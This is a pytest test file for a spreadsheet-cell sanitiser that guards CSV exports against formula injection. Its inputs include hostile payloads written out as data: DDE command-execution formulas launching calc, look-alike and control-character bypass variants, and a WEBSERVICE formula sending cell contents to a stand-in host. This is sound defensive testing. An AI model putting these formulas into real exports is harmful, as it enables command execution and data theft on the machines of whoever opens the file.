import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentctl.calls.spreadsheet import MAX_LENGTH, cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example","hier")',
        "=cmd|' /C calc'!A0",
        "+49+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "＝1+1",
        "＋1",
        "＠SUM(1)",
        "−1+1",
        '"=1+1',
        "'=1+1",
        "%0A=1+1",
        "|calc",
        '=WEBSERVICE(CONCATENATE("https://evil.example/?",A1))',
        "+498999998100",
    ],
)
def test_a_formula_stays_text(text: str) -> None:
    assert cell(text).startswith("'")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        ("", ""),
        ("Frau Muster", "Frau Muster"),
        ("zwei\nZeilen", "zwei\nZeilen"),
        ("zwei\r\nZeilen", "zwei\nZeilen"),
        ("a=b", "a=b"),
        ("a\tb\rc\x00d\u202ee", "a b c d e"),
        (-5, "-5"),
        (0.25, "0.25"),
        (True, "True"),
    ],
)
def test_anything_else_is_left_alone(value: object, shown: str) -> None:
    assert cell(value) == shown


def test_more_than_a_spreadsheet_holds_is_cut() -> None:
    assert len(cell("=" * 100_000)) == MAX_LENGTH


@given(st.lists(st.text(), min_size=1))
def test_any_row_comes_back_as_it_was_written(row: list[str]) -> None:
    written = io.StringIO()
    csv.writer(written, quoting=csv.QUOTE_ALL, lineterminator="\n").writerow([cell(text) for text in row])
    (read,) = csv.reader(io.StringIO(written.getvalue(), newline=""))
    assert read == [cell(text) for text in row]
    assert not any(text.lstrip(" \n\"'")[:1] in tuple("=+-@") and not text.startswith("'") for text in read if text)
